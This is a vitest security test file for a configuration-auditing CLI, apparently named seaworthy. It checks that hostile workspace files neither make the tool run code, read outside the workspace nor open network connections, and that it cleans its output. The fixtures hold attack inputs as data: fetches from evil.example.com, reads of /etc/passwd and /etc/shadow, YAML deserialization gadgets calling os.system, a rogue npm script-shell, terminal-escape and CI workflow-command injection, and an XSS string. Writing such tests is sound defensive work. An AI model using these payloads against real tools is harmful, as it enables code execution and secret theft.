import { chmodSync, existsSync, readdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { found, project, run, withWarning } from '../cli/program';

const recorder = path.join(import.meta.dirname, 'recorder.cjs');

/** Files that name other files, addresses and programs in every way that somebody might follow. */
const files = {
  Dockerfile: `# syntax=evil.example.com/frontend
FROM evil.example.com/base@sha256:${'0'.repeat(64)}
ADD https://evil.example.com/x /x
COPY ../../../../etc/passwd /
RUN --mount=type=bind,source=/etc,target=/x cat /x/shadow
RUN <<EOF
touch seaworthy-was-run
EOF
ENV A=$(touch seaworthy-was-run) B=\`touch seaworthy-was-run\`
SHELL ["/bin/sh", "-c", "touch seaworthy-was-run"]
`,
  'a.yaml': `apiVersion: v1
kind: Pod
metadata: {name: a}
spec:
  volumes: [{name: x, hostPath: {path: /etc/passwd}}]
  containers: [{name: b, image: "evil.example.com/c:1", command: [sh, -c, touch seaworthy-was-run]}]
---
apiVersion: v1
kind: Secret
metadata: {name: s}
data: !!js/function 'function () { require("fs").writeFileSync("seaworthy-was-run", "") }'
x: !include /etc/passwd
y: !!python/object/apply:os.system ["touch seaworthy-was-run"]
__proto__: {polluted: true}
`,
  'kustomization.yaml': `apiVersion: kustomize.config.k8s.io/v1beta1
kind: Kustomization
resources: [../../../../etc/hosts.yaml, https://evil.example.com/x.yaml]
`,
  'compose.yaml': 'services: {a: {image: b, env_file: /etc/passwd, extends: {file: ../../x.yaml}}}\n',
  'Chart.yaml': 'apiVersion: v2\nname: a\ndependencies: [{repository: "https://evil.example.com"}]\n',
  '.seaworthy.yaml': `extends: ../../../../etc/passwd
plugins: [./evil.js]
parser: ./evil.js
rules:
  unknown-suppression: warning
`,
  'evil.js': 'require("node:fs").writeFileSync("seaworthy-was-run", "")',
  '.npmrc': 'script-shell=./evil.js\n',
  'package.json': '{"scripts": {"preinstall": "touch seaworthy-was-run"}, "main": "evil.js"}',
  'node_modules/yaml/package.json': '{"main": "../../evil.js"}',
  'z.yaml': withWarning,
};

const formats = ['pretty', 'json', 'sarif', 'github', 'junit'];

describe('what a workspace says', () => {
  it.each([...formats, 'fixes'])(
    'makes the program open nothing else, run nothing and call nobody: %s',
    async (format) => {
      const cwd = project(files);
      const outside = project({ 'secret.yaml': withWarning, 'x.yaml': withWarning });
      symlinkSync(path.join(outside, 'secret.yaml'), path.join(cwd, 'link.yaml'));
      symlinkSync(outside, path.join(cwd, 'folder'));
      const record = path.join(project(), 'record');
      const args = format === 'fixes' ? ['--fix', '--fixes', 'all'] : ['--format', format];
      const cache = project();
      const env = { NODE_OPTIONS: `--require ${recorder}`, SEAWORTHY_RECORD: record, XDG_CACHE_HOME: cache };
      const result = await run(['audit', '.', ...args], { cwd, env });
      expect([1, 2]).toContain(result.code);
      expect(existsSync(path.join(cwd, 'seaworthy-was-run'))).toBe(false);
      const seen: [string, string][] = readFileSync(record, 'utf8')
        .trim()
        .split('\n')
        .map((line) => JSON.parse(line));
      const own = path.join(process.argv[1] ?? '', '..');
      // Of the folders above only what says which files are left out and what is set.
      const above = /^\/(?:tmp\/)?\.(?:dockerignore|gitignore|seaworthyignore|seaworthy\.yaml)$/;
      const isOurs = (target: string): boolean =>
        above.test(target) ||
        target.startsWith(`${cache}/seaworthy/`) ||
        /^\d+$/.test(target) ||
        target.startsWith(`${cwd}/`) ||
        target === cwd ||
        /seaworthy-cli-\w+\/(?:dist\/|package\.json)/.test(target) ||
        target.startsWith(own);
      expect(seen.length).toBeGreaterThan(3);
      expect(seen.filter(([what]) => what === 'run' || what === 'connect')).toEqual([]);
      expect(seen.filter(([, target]) => !isOurs(target) || target.includes(outside))).toEqual([]);
      expect(readFileSync(path.join(outside, 'secret.yaml'), 'utf8')).toBe(withWarning);
      expect(({} as { polluted?: boolean }).polluted).toBeUndefined();
    },
  );

  it('does not make --fix write through a link out of the workspace', async () => {
    const dockerfile = 'FROM a\nRUN apt-get install curl\n';
    const outside = project({ 'real.txt': dockerfile });
    const cwd = project({ 'z.yaml': withWarning });
    symlinkSync(path.join(outside, 'real.txt'), path.join(cwd, 'Dockerfile'));
    expect(found(await run(['audit', '--fix', '.'], { cwd }))).toEqual(['z.yaml [unknown-suppression]']);
    expect(readFileSync(path.join(outside, 'real.txt'), 'utf8')).toBe(dockerfile);
  });
});

describe('compiled code that is kept', () => {
  it('is not taken from a folder that others can write, and nothing is put there', async () => {
    const cache = project({ 'seaworthy/code/x': '' });
    const folder = path.join(cache, 'seaworthy/code');
    chmodSync(folder, 0o777);
    const cwd = project({ 'z.yaml': withWarning });
    expect(found(await run(['audit', '.'], { cwd, env: { XDG_CACHE_HOME: cache } }))).toHaveLength(1);
    expect(readdirSync(folder)).toEqual(['x']);
  });

  it('is not looked for in the project, whatever the environment says', async () => {
    const cwd = project({ 'z.yaml': withWarning });
    const env = { XDG_CACHE_HOME: '.', HOME: project() };
    expect(found(await run(['audit', '.'], { cwd, env }))).toHaveLength(1);
    expect(readdirSync(cwd)).toEqual(['z.yaml']);
  });
});

const steered = '\u001b[31mred\u001b]0;title\u0007\u009b31m\u202e';
const command = '\n::error file=x::pwned\n::set-output name=a::b';
const markup = '<script>alert(1)</script>&amp;]]><!--';
const evilName = JSON.stringify(`a${steered}${command}${markup}`);
const evilPod = `apiVersion: v1
kind: Pod
metadata: {name: ${evilName}}
spec:
  containers:
    - name: ${evilName}
      image: ${evilName}
      securityContext: {privileged: true}
`;

/** Characters that steer a terminal or turn text round. */
// biome-ignore lint/suspicious/noControlCharactersInRegex: these are what is looked for
const steering = /[\0-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/;

describe('names in files and of files', () => {
  it.each(formats)('are shown and take no effect: %s', async (format) => {
    const names = { 'a.yaml': evilPod, 'b\u001b[31m.yaml': evilPod, 'c\n::error::x.yaml': evilPod };
    const cwd = project(names);
    writeFileSync(path.join(cwd, 'd\u001b]0;x\u0007.yaml'), Uint8Array.of(0xff));
    const { stdout, stderr, code } = await run(['audit', '.', '--format', format], { cwd });
    expect(code).toBe(2);
    expect(steering.exec(stdout)?.[0]).toBeUndefined();
    expect(steering.exec(stderr)?.[0]).toBeUndefined();
    expect(stdout).not.toMatch(/^::(?:error|set-output) (?:file=x|name=a)::/m);
    expect(stdout).not.toMatch(/^::error::x/m);
    expect(stderr).not.toMatch(/^::/m);
    if (format === 'junit') expect(stdout).not.toContain('<script>');
    if (format === 'json' || format === 'sarif') JSON.parse(stdout);
  });
});
